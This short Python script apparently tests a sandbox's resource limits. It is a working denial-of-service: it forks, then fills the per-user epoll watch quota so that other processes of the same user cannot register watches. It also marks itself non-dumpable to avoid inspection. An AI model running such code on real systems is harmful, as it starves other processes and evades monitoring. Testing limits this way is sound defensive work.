# ends: limit
# Watch so much that the kernel, which counts it for all of this user, lets nobody else watch anything.
import ctypes, os, select, socket, time
ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # not dumpable: who measures us could not look any more
made, others = 0, [os.fork() for _ in range(2)]
targets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(480)]
selectors = []
try:
    while True:
        selectors.append(select.epoll())
        for target in targets:
            selectors[-1].register(target, select.EPOLLIN)
            made += 1
except OSError as error:
    print("stopped", error.errno, flush=True)
time.sleep(6)
print("BREACH", made, "watches in one of several processes", flush=True)
